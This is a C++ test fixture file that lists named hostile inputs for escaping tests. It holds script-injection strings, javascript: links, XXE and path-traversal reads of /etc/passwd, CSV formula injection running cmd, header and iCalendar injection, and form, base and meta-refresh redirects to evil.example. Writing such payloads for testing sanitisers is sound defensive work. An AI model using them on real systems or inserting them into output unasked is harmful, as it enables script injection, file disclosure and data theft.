#include "hostile/payloads.hpp"

#include <array>

namespace kehoach::test {
namespace {

constexpr std::array plain{
    // HTML, between tags and where only text may stand.
    Payload{"script", "<script>alert(1)</script>"},
    Payload{"end of title", "</title><script>alert(1)</script>"},
    Payload{"end of script", "</script><script>alert(1)</script>"},
    Payload{"end of script with a space", "</script\t><img src=x>"},
    Payload{"script in a comment in a script", "<!--<script>"},
    Payload{"image that fails", "<img src=x onerror=alert(1)>"},
    Payload{"drawing that loads", "<svg/onload=alert(1)>"},
    Payload{"drawing with a link", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x"},
    Payload{"mathematics", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"},
    Payload{"frame", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>"},
    Payload{"object", "<object data=\"data:text/html,x\"></object><embed src=x>"},
    Payload{"base", "<base href=\"https://evil.example/\">"},
    Payload{"refresh", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">"},
    Payload{"form", "</form><form action=https://evil.example/><input name=x><button>x"},
    Payload{"style", "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>"},
    Payload{"comment", "<!-- x --><!-- --!><script>alert(1)</script>-->"},
    Payload{"conditional comment", "<!--[if IE]><script>alert(1)</script><![endif]-->"},
    Payload{"end of everything", "</a></p></td></table></main></body></html><script>1</script>"},
    Payload{"plain text", "<plaintext>"},
    Payload{"half a tag", "<a href=\"x"},
    Payload{"angle brackets", "< > << >> <3 a<b>c"},
    // Attributes.
    Payload{"double quote", "\" onmouseover=\"alert(1)\" x=\""},
    Payload{"single quote", "' onmouseover='alert(1)' x='"},
    Payload{"backtick", "` onmouseover=alert(1) `"},
    Payload{"no quote", " onfocus=alert(1) autofocus tabindex=1 "},
    Payload{"end of a tag", "\"><script>alert(1)</script>"},
    Payload{"line break in an attribute", "x\"\nonclick=\"alert(1)"},
    // Character references: what is written is what is shown.
    Payload{"named references", "&lt;script&gt;alert(1)&lt;/script&gt; &quot; &amp;lt;"},
    Payload{"numbered references", "&#60;script&#62; &#x3c;script&#x3e; &#0060script"},
    Payload{"reference without semicolon", "&ltscript&gt &copy &notit;"},
    Payload{"nothing but an ampersand", "& && &; &#; &#x;"},
    // Addresses.
    Payload{"script address", "javascript:alert(1)"},
    Payload{"data address", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="},
    Payload{"path upwards", "../../../../etc/passwd %2e%2e%2f ..\\..\\"},
    Payload{"header", "x%0d%0aSet-Cookie: a=1\r\nSet-Cookie: b=1"},
    // Templates of this program and of others.
    Payload{"value of a template", "{{title}} {{ t.search }} {{.}}"},
    Payload{"section of a template", "{{#rows}}{{title}}{{/rows}}{{^rows}}x{{/rows}}"},
    Payload{"raw value of a template", "{{{body}}} {{&body}} {{>page-start}} {{! x }} {{=<% %>=}}"},
    Payload{"half a value of a template", "{{ {{# {{/ }} }}}"},
    Payload{"other template languages", "${7*7} #{7*7} <%= 7*7 %> {% include x %} @(7*7) [[7*7]]"},
    Payload{"format string", "{} {0} {:>99999} %s %n %99999d"},
    // JSON and JSON-LD.
    Payload{"end of a JSON text", "\"}]}, {\"x\": [{\"y\": \""},
    Payload{"backslashes", "\\ \\\" \\\\ \\u003cscript\\u003e \\x3c \\"},
    Payload{"line separators", "a\u2028b\u2029c"},
    Payload{"keyword of JSON-LD", "@id @type {\"@context\": \"https://evil.example/\"}"},
    // XML.
    Payload{"entity", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>"},
    Payload{"end of CDATA", "]]><x/><![CDATA["},
    Payload{"processing instruction", "<?xml-stylesheet href=\"javascript:alert(1)\"?>"},
    // CSV.
    Payload{"link formula", "=HYPERLINK(\"https://evil.example/\",\"x\")"},
    Payload{"command formula", "+cmd|' /C calc'!A0"},
    Payload{"at formula", "@SUM(1+1)*cmd|' /C calc'!A0"},
    Payload{"minus formula", "-1+1+cmd|' /C calc'!A0"},
    Payload{"full-width formula", "\uFF1DSUM(1+1)*cmd|' /C calc'!A0"},
    Payload{"formula on the second line", "\n=1+1"},
    Payload{"cells and rows", "a\",\"b\r\n\"c\",d;e\tf"},
    // iCalendar.
    Payload{"new property", "x\nATTENDEE:mailto:evil@example.org\nX-EVIL:1"},
    Payload{"new event", "x\nEND:VEVENT\nBEGIN:VEVENT\nUID:evil\nSUMMARY:evil"},
    Payload{"marks of iCalendar", "a;b,c\\nd\\,e:f\"g^n"},
    Payload{"folded line", "x\n ATTENDEE:evil\r\n\tATTENDEE:evil"},
    // Unicode.
    Payload{"many marks", "a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309\u030A\u030B"},
    Payload{"other directions", "\u05E9\u05DC\u05D5\u05DD \u0645\u0631\u062D\u0628\u0627"},
    Payload{"full-width brackets", "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"},
    Payload{"beyond the first plane", "\U0001F4A9 \U0001F1FB\U0001F1F3 \U0010FFFD"},
};

constexpr std::array markdown{
    Payload{"raw block", "<div onclick=alert(1)>\n\nx\n\n</div>"},
    Payload{"raw inline", "a <b onclick=alert(1)>b</b> <script>alert(1)</script> c"},
    Payload{"raw comment", "<!-- x -->\n\n<?php x ?>\n\n<![CDATA[x]]>\n\n<!DOCTYPE x>"},
    Payload{"raw drawing", "<svg onload=alert(1)>\n<script>alert(1)</script>\n</svg>"},
    Payload{"script link", "[x](javascript:alert(1))"},
    Payload{"script link in capitals", "[x](JaVaScRiPt:alert(1))"},
    Payload{"script link with references", "[x](&#106;avascript&colon;alert(1))"},
    Payload{"script link with a tab", "[x](java&#9;script:alert(1)) [y](java&Tab;script:alert(1))"},
    Payload{"script link with a line break", "[x](java&NewLine;script:alert(1))"},
    Payload{"script link after controls", "[x](&#1;javascript:alert(1)) [y](<  javascript:x>)"},
    Payload{"script link by reference", "[x][y]\n\n[y]: javascript:alert(1)"},
    Payload{"script link by itself", "<javascript:alert(1)>"},
    Payload{"other schemes", "[a](vbscript:x) [b](data:text/html,x) [c](file:///etc/passwd)"},
    Payload{"blob", "[a](blob:https://x/y) [b](filesystem:x) [c](view-source:x)"},
    Payload{"image", "![x](javascript:alert(1)) ![y](data:image/svg+xml,<svg/onload=alert(1)>)"},
    Payload{"image that fails", "![\" onerror=\"alert(1)](https://example.org/x.png)"},
    Payload{"quote in an address", "[x](https://example.org/\"onclick=\"alert(1))"},
    Payload{"quote in a title", "[x](https://example.org/ '\"><script>alert(1)</script>')"},
    Payload{"end of code", "```\n</code></pre><script>alert(1)</script>\n```"},
    Payload{"language of code", "```x\" onclick=\"alert(1)\ny\n```"},
    Payload{"inline code", "`</code><script>alert(1)</script>`"},
    Payload{"table",
            "| a<script> | b\" onclick=\"x |\n|:-:|---|\n| </td><script>x</script> | {{x}} |"},
    Payload{"heading", "# </h2><script>alert(1)</script> {#\" onclick=\"x}"},
    Payload{"heading with marks", "# \" onclick=\"alert(1)\n\n# \" onclick=\"alert(1)"},
    Payload{"references", "&lt;script&gt; &#60;script&#62; &amp;lt;"},
    Payload{"template", "{{title}} {{{body}}} {{>page-start}}"},
    Payload{"autolink", "https://example.org/\"onclick=alert(1) www.example.org/<script>"},
    Payload{"mail", "<a@b.c\"onclick=alert(1)> a@b.example"},
    Payload{"link within a link", "[a [b](https://x.example/)](javascript:alert(1))"},
    Payload{"nothing", "[]() ![]() [](<>) []: # **** ____"},
};

}  // namespace

std::span<const Payload> plain_payloads() {
  return plain;
}

std::span<const Payload> markdown_payloads() {
  return markdown;
}

std::string yaml_quoted(std::string_view text) {
  std::string out = "\"";
  for (const char c : text) {
    if (c == '"' || c == '\\') out += '\\';
    if (c == '\n')
      out += "\\n";
    else if (c == '\r')
      out += "\\r";
    else if (c == '\t')
      out += "\\t";
    else
      out += c;
  }
  return out + '"';
}

}  // namespace kehoach::test
